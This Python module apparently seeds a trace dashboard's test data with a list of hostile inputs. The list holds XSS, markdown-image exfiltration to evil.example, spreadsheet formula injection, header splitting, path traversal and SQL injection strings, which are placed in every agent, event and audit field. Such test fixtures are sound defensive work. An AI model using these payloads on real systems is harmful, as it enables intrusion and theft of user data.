"""Attacks in every text that there is."""

from __future__ import annotations

from collections.abc import Iterator

from factory_agents import Agent
from factory_traffic import Talk, Traffic

from perimeter_plugin_live_trace.records import Answered, Asked, Record
from perimeter_plugin_live_trace.store import Writer, changes


HOSTILE: tuple[str, ...] = (
    "<script>window.__x=1</script>",
    "</script><script>window.__x=1</script>",
    "<img src=x onerror=window.__x=1>",
    "<svg onload=window.__x=1>",
    "<svg><script>window.__x=1</script></svg>",
    '"><script>window.__x=1</script>',
    "' onmouseover='window.__x=1",
    '" autofocus onfocus="window.__x=1',
    "javascript:window.__x=1",
    "[click](javascript:window.__x=1)",
    "![x](https://evil.example/pixel.png?q=secret)",
    "[x]: https://evil.example/ 'title'",
    "<iframe srcdoc='<script>parent.__x=1</script>'></iframe>",
    "<a href='data:text/html,<script>window.__x=1</script>'>x</a>",
    "<style>*{display:none}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example/><button>OK</button></form>",
    "<math><mtext></mtext><mglyph><svg><mtext><style><img src=x onerror=window.__x=1>",
    "<!--><script>window.__x=1</script>-->",
    "<![CDATA[<script>window.__x=1</script>]]>",
    "{{ 7 * 7 }}{% raw %}${7*7}#{7*7}<%= 7*7 %>",
    '=HYPERLINK("https://evil.example","x")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r\nSet-Cookie: lt=1\r\n\r\n<script>window.__x=1</script>",
    "\u202egnp.exe\u202c and \u2066isolated\u2069",
    "\u0000\u0001\u0007\u0008\u001b[31mred\u001b[0m\u007f",
    "\u200b\u200d\ufeff zero width \u2028 line \u2029 paragraph",
    "e\u0301\u0301\u0301\u0301\u0301 Z\u0351\u036b\u0343\u036a",
    "\U0001f468\u200d\U0001f469\u200d\U0001f467 \U0001f3f4\U000e0067\U000e0062",
    "../../../../etc/passwd%00",
    "'; DROP TABLE sessions; --",
    '" OR fts MATCH * NEAR(',
    "%s%n%x {0} {__class__}",
    "x" * 10_000,
    "<" * 3000,
    "\ud800 lone \udfff",
)
"""What somebody might write who wants the dashboard to do it."""


def hostile(traffic: Traffic) -> Iterator[list[Record]]:
    """Yield sessions with an attack in every text that there is."""
    for number, attack in enumerate(HOSTILE):
        agent = hostile_agent(number, attack)
        at = traffic.now - 3600 + number * 60
        talk = Talk(traffic, agent, f"{number} {attack}", at, {f"k{attack}": attack, attack: "v"})
        finding = {
            "finding.rule": attack,
            "finding.title": attack,
            "finding.severity": "critical",
            "finding.owasp": attack,
            "finding.detector": attack,
            "finding.evidence": {"ptr": attack, "sample": attack, "start": 0, "end": 4},
        }
        yield talk.turn(attack, answer=attack)
        yield talk.turn(f"once more {attack}", finding=finding, answer=f"said: {attack}")
        yield hostile_events(traffic, talk, attack)


def hostile_agent(number: int, attack: str) -> Agent:
    """Return an agent all of whose names are an attack."""
    dialect = ("openai.chat", "anthropic.messages", "openai.responses", "gemini.generate")[
        number % 4
    ]
    return Agent(
        f"{number} {attack}",
        attack,
        dialect,
        attack,
        attack,
        f"You are {attack}",
        (attack, f"tool {attack}"),
        (attack,),
        stream=number % 4 < 2 and number % 3 == 0,
    )


def hostile_events(traffic: Traffic, talk: Talk, attack: str) -> list[Record]:
    """Return a call that fails, and an event of an unknown kind, with an attack in all of it."""
    exchange = f"{traffic.hex(8)} {attack}"
    call = {"call.id": exchange, "llm.model": attack}
    error = {**call, "error.type": attack, "error.message": attack, "http.status_code": 418}
    tool = {"call.id": exchange, "tool.name": attack, "tool.result": attack, "tool.status": "error"}
    raw = attack.encode("utf-8", "replace")
    fields = [(b"x-attack", raw), (raw, b"x"), (b"content-encoding", b"gzip")]
    return [
        talk.happened("llm.call.start", {**call, "session.tags": {attack: attack}}, span=attack),
        Asked(
            exchange, talk.at, attack, "chat", attack, attack, attack[:10], f"/{attack}?{attack}",
            fields, raw, len(raw),
        ),
        talk.happened("tool.result", {**tool, "parent_span_id": attack}),
        talk.happened("llm.call.error", error, level="ERROR"),
        Answered(
            exchange, talk.at, attack, 418, fields, raw, len(raw), 1.0, error=attack,
            verdicts=[(attack, attack)],
        ),
        talk.happened(attack or "x", {attack: attack, "message": attack}, level=attack),
    ]  # fmt: skip


def deface(writer: Writer) -> None:
    """Put attacks where only people write."""
    for number, attack in enumerate(HOSTILE, start=1):
        writer.change(changes.rename_agent(number, attack))
        writer.change(changes.put_document("view", attack, {"name": attack, "url": attack}))
        writer.change(changes.audit(attack, attack, before=attack, after=attack, reason=attack))
        if attack.strip():
            writer.change(changes.set_group_state(number, "ignored", attack))
